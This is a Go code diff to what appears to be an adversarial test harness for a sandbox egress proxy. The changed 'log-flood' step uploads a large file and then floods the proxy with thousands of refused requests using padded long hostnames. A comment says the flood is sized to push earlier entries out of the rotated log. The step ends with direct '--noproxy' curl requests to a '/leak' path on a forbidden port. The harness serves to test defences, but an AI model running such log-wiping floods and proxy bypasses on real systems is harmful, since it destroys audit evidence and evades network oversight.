@@ -485,11 +485,12 @@ func leftBehind(r *rand.Rand, e Env) Step {
 	return Step{Class: "left-behind", Detail: "setsid'd loops that try to connect, then " + string(after), Script: script, After: after}
 }
 
-// floodPy sends n refused requests (names nobody allows) to the proxy in $http_proxy, from
-// 16 threads, and a few direct ones.
+// floodPy sends n refused requests (names nobody allows, as long as a name can be, so that
+// each costs the log the most) to the proxy in $http_proxy, from 16 threads.
 const floodPy = `
 import socket, os, sys, threading
 n, token, fport = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
+pad = '.'.join(['p' * 60] * 3)
 px = os.environ.get('http_proxy', 'http://127.0.0.1:929').split('//')[-1].rstrip('/')
 host, port = px.rsplit(':', 1)
 sent = [0]
@@ -498,8 +499,9 @@ def work(k):
     for i in range(k, n, 16):
         try:
             c = socket.create_connection((host.strip('[]'), int(port)), timeout=10)
-            if i % 2: c.sendall(b'GET http://f%d-%s.test:%d/ HTTP/1.1\r\nHost: f%d-%s.test\r\n\r\n' % (i, token.encode(), fport, i, token.encode()))
-            else: c.sendall(b'CONNECT f%d-%s.test:%d HTTP/1.1\r\n\r\n' % (i, token.encode(), fport))
+            h = ('f%d-%s.%s.test' % (i, token, pad)).encode()
+            if i % 2: c.sendall(b'GET http://%s:%d/ HTTP/1.1\r\nHost: %s\r\n\r\n' % (h, fport, h))
+            else: c.sendall(b'CONNECT %s:%d HTTP/1.1\r\n\r\n' % (h, fport))
             c.recv(512); c.close()
             with lock: sent[0] += 1
         except Exception: pass
@@ -510,15 +512,17 @@ print('HA-FLOOD-SENT', sent[0])
 `
 
 func logFlood(r *rand.Rand, e Env) Step {
+	// A refused line with a 230-character name is ~600 bytes: 4000 of them are more than the
+	// two files of the rotated log keep (the finding's 15,000 had short names).
 	size := int64(5 << 20)
-	n := 15000
+	n := 4000
 	if e.Long {
-		size, n = 50<<20, 30000
+		size, n = 50<<20, 20000
 	}
 	up := fmt.Sprintf("http://%s:%d/upload/%d", e.Allowed, e.AllowedPort, r.Intn(1e6))
 	script := fmt.Sprintf("head -c %d /dev/zero > \"$HOME/.ha-upload\" && timeout 300 curl -sS -m 280 -o /dev/null -w 'HA-UPLOAD %%{http_code} %%{size_upload}\\n' --data-binary @\"$HOME/.ha-upload\" %s; rm -f \"$HOME/.ha-upload\"\n", size, bashq(up)) +
 		"cat > \"$HOME/.ha-logflood.py\" <<'HAPY'\n" + floodPy + "HAPY\n" +
-		fmt.Sprintf("timeout 400 python3 \"$HOME/.ha-logflood.py\" %d %s %d\n", n, bashq(e.Token), e.ForbiddenPort) +
+		fmt.Sprintf("timeout 1500 python3 \"$HOME/.ha-logflood.py\" %d %s %d\n", n, bashq(e.Token), e.ForbiddenPort) +
 		fmt.Sprintf("for i in $(seq 50); do curl --noproxy '*' -sS -m 1 -o /dev/null http://%s:%d/leak/flood 2>/dev/null; done\n", e.HostIP, e.ForbiddenPort) +
 		"true\n"
 	return Step{Class: "log-flood", Detail: fmt.Sprintf("%d MB upload to %s, then %d refused requests", size>>20, e.Allowed, n), Script: script, Uploaded: size, Allowed: 1}
